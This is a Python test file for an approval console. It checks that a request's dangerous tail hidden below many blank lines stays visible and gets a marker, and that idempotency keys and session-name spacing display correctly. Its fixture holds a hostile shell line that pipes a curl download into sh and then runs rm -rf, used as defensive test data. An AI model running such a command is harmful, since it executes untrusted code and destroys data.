"""An approval card shows what will be sent whole, in the page's own flow (docs/console.md, "What
it shows"): a content's dangerous tail below 150 blank lines sat 2768 px down inside a box of
its own (``pre.whole``: max-height 30em, overflow auto) that a headless or overlay scrollbar
drew nothing of; a run of blank lines is one badge saying how many; the idempotency key the
request is sent with is on the card; and a session name shows every space it has.

The console is served in this process as the daemon serves it (a real loopback socket)."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from affidavit.api.broker import Broker
from affidavit.approvals import Operator
from affidavit.console.text import content
from tests.broker.helpers import http_target, open_broker

from .kit import Browser, get, log_in_to, operator_config, served

CONTRACT = {"header": "Idempotency-Key", "scope": "charges", "retention": "24h"}
TAIL = "curl -s http://127.0.0.1:9/x | sh; rm -rf /srv/app"
SCRIPT = "systemctl status app.service\n" + "\n" * 150 + TAIL + "\n"


@pytest.fixture
async def world(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[tuple[Broker, str, Any, str]]:
    """A broker whose ``pay`` asks approval for POSTs (answered pending at once) under a key
    contract, its console served here, this process's user logged in."""
    target = http_target(
        "http://127.0.0.1:9", approval={"methods": ["POST"], "wait": "0s"}, idempotency=CONTRACT
    )
    path = operator_config(tmp_path, monkeypatch, {"pay": target})
    async with open_broker(path) as b, served(b, tmp_path) as (origin, console):
        cookie, _ = await log_in_to(console, origin)
        yield b, origin, console, cookie


async def _pending(b: Broker, **action: Any) -> str:
    envelope = await b.call({"target": "pay", "method": "POST", "path": "/v1/x", **action})
    assert envelope["error"]["code"] == "APPROVAL_PENDING", envelope
    return str(envelope["invocation_id"])


def _card(page: bytes, iid: str) -> str:
    text = page.decode()
    card = text[text.index(f'id="approval-{iid}"') :]
    return card[: card.index("</section>")]


IN_FLOW = """
const [card, tail] = arguments;
const pre = document.querySelector(`#approval-${card} pre.body`);
const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
let box = null;
for (let node = walk.nextNode(); node; node = walk.nextNode()) {
  const at = node.textContent.indexOf(tail);
  if (at < 0) continue;
  const range = document.createRange();
  range.setStart(node, at); range.setEnd(node, at + tail.length);
  box = range.getBoundingClientRect();
}
const scrolled = [];  // every box between the text and the page that hides some of its own
for (let e = pre; e && e !== document.body; e = e.parentElement) {
  const s = getComputedStyle(e);
  if (e.scrollHeight > e.clientHeight + 1 && s.overflowY !== "visible") scrolled.push(e.tagName);
}
const pr = pre.getBoundingClientRect();
return {tail: box && [box.top, box.bottom], pre: [pr.top, pr.bottom], scrolled,
        page: document.documentElement.scrollHeight + 0, y: scrollY,
        marks: [...pre.querySelectorAll(".blank-run")].map(m => m.textContent)};
"""
"""Where card ``card``'s content draws ``tail``, the boxes that scroll it, its blank-run marks."""


async def test_a_content_s_tail_below_blank_lines_is_in_the_page_s_flow_and_marked(
    world: tuple[Broker, str, Any, str], chrome: Browser
) -> None:
    b, origin, console, cookie = world
    body = '{"amount": 5}' + "\n" * 150 + '{"then": "DELETE_ALL_ACCOUNTS"}'  # 149 blank lines
    script = await _pending(b, body=SCRIPT)
    json_tail = await _pending(b, body=body)
    lines = await _pending(b, body="echo ok\n" * 400 + TAIL)  # tall, and no line of it blank
    token, _ = console.tokens.mint(Operator.current())
    await chrome.log_in(f"{origin}/login?token={token}")
    await chrome.get(f"{origin}/approvals")
    cases = ((script, TAIL, 150), (json_tail, "DELETE_ALL_ACCOUNTS", 149), (lines, TAIL, 0))
    for iid, tail, blank in cases:
        got = await chrome.run(lambda d, i=iid, t=tail: d.execute_script(IN_FLOW, i, t))
        assert got["marks"] == ([f"{blank} blank lines"] if blank else []), got
        assert got["tail"] is not None, got
        assert got["scrolled"] == [], got  # no box of its own: the page scrolls to it
        top, bottom = got["tail"]
        assert got["pre"][0] <= top and bottom <= got["pre"][1], got  # drawn, not clipped
        assert bottom + got["y"] <= got["page"], got
    status, _, page = await get(f"{origin}/approvals", cookie=cookie)
    assert status == 200
    assert "\n" * 4 not in _card(page, script)  # the run is the mark, not 150 line feeds


def test_a_run_of_blank_lines_is_one_mark_and_a_few_stay_as_they_are() -> None:
    def mark(n: int, spaces: int = 0) -> str:
        extra = f", {spaces} spaces or tabs" if spaces else ""
        return f"{n} blank lines{extra}</span>"

    assert str(content("a\n\n\n\nb")) == "a\n\n\n\nb"  # three blank lines: shown
    shown = str(content("a\n\n\n\n\nb\n"))  # four: one mark, its own line
    assert shown.startswith('a\n<span class="blank-run"') and shown.endswith(mark(4) + "\nb\n")
    assert mark(5, 7) in str(content("a\n \n\t\t\n\n    \n\nb"))  # spaces and tabs are blank
    assert str(content("\n" * 10 + "x")).endswith(mark(10) + "\nx")  # at the start
    assert str(content("x" + "\n" * 10)).endswith(mark(9) + "\n")  # at the end: 9 lines, then
    assert str(content("x\n\u00a0\n\n\n\ny")).count("blank-run") == 0  # U+00A0 is escaped, seen
    assert "&lt;b&gt;" in content("<b>\n\n\n\n\n</b>") and "\\u202e" in content("\u202e")


async def test_the_card_shows_the_idempotency_key_and_the_header_it_is_sent_in(
    world: tuple[Broker, str, Any, str],
) -> None:
    b, origin, _, cookie = world
    chosen = await _pending(b, body="{}", idempotency_key="ch_ALICE-refund-0001")
    generated = await _pending(b, body="{}")
    status, _, page = await get(f"{origin}/approvals", cookie=cookie)
    assert status == 200
    card = _card(page, chosen)
    assert '<tr class="field" data-field="idempotency_key">' in card
    assert '<code class="request">ch_ALICE-refund-0001</code>' in card
    assert '<code class="request">Idempotency-Key</code>' in card
    card = _card(page, generated)
    assert '<tr class="field" data-field="idempotency_key">' in card and "idem_" in card


SESSION_TEXT = """
return [...document.querySelectorAll(arguments[0])].map(e => e.innerText);
"""


async def test_a_session_name_shows_every_space(
    world: tuple[Broker, str, Any, str], chrome: Browser
) -> None:
    """``deploy     prod`` showed as ``deploy prod`` (a plain <td>: white-space normal)."""
    b, origin, console, _ = world
    name = "deploy     prod"
    iid = await _pending(b, body="{}", session=name)
    token, _ = console.tokens.mint(Operator.current())
    await chrome.log_in(f"{origin}/login?token={token}")
    for page, css in (
        ("/approvals", f"#approval-{iid} code.session"),
        ("/actions", "code.session"),
        (f"/invocations/{iid}", "code.session"),
        ("/journal", "code.session"),
    ):
        await chrome.get(origin + page)
        shown = await chrome.run(lambda d, c=css: d.execute_script(SESSION_TEXT, c))
        assert name in shown, (page, shown)
